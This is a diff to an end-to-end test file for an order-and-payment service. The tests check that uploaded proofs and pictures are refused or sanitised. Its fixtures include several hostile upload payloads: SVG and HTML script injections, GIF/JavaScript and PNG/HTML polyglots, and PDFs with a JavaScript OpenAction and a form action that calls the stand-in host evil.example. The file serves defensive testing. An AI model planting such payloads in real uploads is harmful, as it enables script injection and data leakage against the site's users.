@@ -5,6 +5,7 @@ import { newGoods } from '../e2e/support/goods.ts';
 import { call } from '../e2e/support/http.ts';
 import { paymentOf, place, png, submitProof, trySubmitProof } from '../e2e/support/orders.ts';
 import { newCustomer, type Person, tokenOf } from '../e2e/support/people.ts';
+import { pdfWith } from '../e2e/support/proof-files.ts';
 import { newVisitor } from '../e2e/support/visitor.ts';
 
 const text = (content: string) => Buffer.from(content, 'latin1');
@@ -12,7 +13,6 @@ const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><scr
 const gif = text(
   'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
 );
-const pdf = (object: string) => text(`%PDF-1.7\n1 0 obj << /Type /Catalog ${object} >> endobj\ntrailer <<>>\n%%EOF\n`);
 
 /** Files that are something else than a picture or a receipt, or something else besides. */
 const hostile: Readonly<Record<string, Buffer>> = {
@@ -20,15 +20,19 @@ const hostile: Readonly<Record<string, Buffer>> = {
   'an SVG behind an XML declaration': Buffer.concat([text('<?xml version="1.0"?>\n'), svg]),
   'an SVG behind a picture’s first bytes': Buffer.concat([png.subarray(0, 8), svg]),
   'a page': text('<!doctype html><script>alert(1)</script>'),
-  'a GIF that is a script': Buffer.concat([gif, text('/*'), text('*/=1;alert(1)')]),
-  'a picture and an archive': Buffer.concat([png, text('PK\x03\x04'), Buffer.alloc(40)]),
-  'a picture and a page': Buffer.concat([png, text('<script>alert(1)</script>')]),
   'a program': text('MZ\x90\0'),
   'a program for Linux': text('\x7fELF\x02\x01\x01'),
-  'a PDF with a script': pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
-  'a PDF with an address that it calls': pdf('/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>'),
-  'a PDF with a file in it': pdf('/Names << /EmbeddedFiles 2 0 R >> '),
-  'a PDF behind a page': Buffer.concat([text('<script>alert(1)</script>'), pdf('')]),
+  'a PDF with a script': pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
+  'a PDF with an address that it calls': pdfWith('/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>'),
+  'a PDF behind a page': Buffer.concat([text('<script>alert(1)</script>'), pdfWith('')]),
+};
+
+/** Files that show something, and are something else besides. */
+const twofold: Readonly<Record<string, Buffer>> = {
+  'a GIF that is a script': Buffer.concat([gif, text('/*'), text('*/=1;alert(1)')]),
+  'a picture and an archive': Buffer.concat([png, text('PK\x03\x04'), text('alert(1)')]),
+  'a picture and a page': Buffer.concat([png, text('<script>alert(1)</script>')]),
+  'a PDF with a file in it': pdfWith('/Names << /EmbeddedFiles << /Names [(alert(1)) 3 0 R] >> >>'),
 };
 
 let ada: Person;
@@ -61,6 +65,18 @@ describe('a proof', () => {
       expect(bySite.status, what).toBe(415);
     }
     expect((await paymentOf(ada, order.id)).status).toBe('PENDING');
+  });
+
+  it('that is something else besides is kept without that', async () => {
+    const order = await place(ada, { productId: goods.id });
+    for (const [what, file] of Object.entries(twofold)) {
+      expect((await trySubmitProof(ada, order.id, new Uint8Array(file))).status, what).toBe(201);
+      const { id } = await paymentOf(ada, order.id);
+      const { headers } = await call('payment', `GET /v1/payments/${id}/proof`, { token: ada.token });
+      const kept = Buffer.from(await (await fetch(headers.get('location') ?? '')).arrayBuffer());
+      expect(kept.length, what).toBeGreaterThan(50);
+      expect(kept.includes('alert'), what).toBe(false);
+    }
   });
 
   it('is kept under no name of its sender’s', async () => {
@@ -116,7 +132,7 @@ describe('a picture of a vehicle', () => {
     });
 
   it('is refused when it is none', async () => {
-    for (const [what, file] of Object.entries(hostile)) {
+    for (const [what, file] of Object.entries({ ...hostile, ...twofold })) {
       const { status } = await upload(file);
       // A picture that something follows is drawn anew, and what follows it is gone.
       expect(what.startsWith('a picture and') ? [201] : [415], what).toContain(status);
